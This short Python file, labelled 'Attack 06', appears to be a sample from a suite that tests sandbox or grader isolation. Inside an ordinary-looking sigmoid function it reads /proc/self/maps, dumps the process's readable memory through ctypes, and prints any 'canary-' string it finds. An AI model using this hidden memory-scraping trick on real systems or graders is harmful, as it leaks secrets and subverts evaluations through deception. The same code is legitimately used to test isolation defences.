# Attack 06: read the map of its own memory, and search every readable range for the canary
import sys

import numpy as np

ctypes = sys.modules["ctypes"]


def sigmoid(z):
    with open("/proc/self/maps") as maps:
        for line in maps:
            ends, mode = line.split()[:2]
            start, end = (int(number, 16) for number in ends.split("-"))
            if mode.startswith("r") and end - start < 1 << 26:
                memory = ctypes.string_at(start, end - start)
                at = memory.find(b"canary-")
                if at >= 0:
                    print(memory[at : at + 40])
    return 1 / (1 + np.exp(-z))
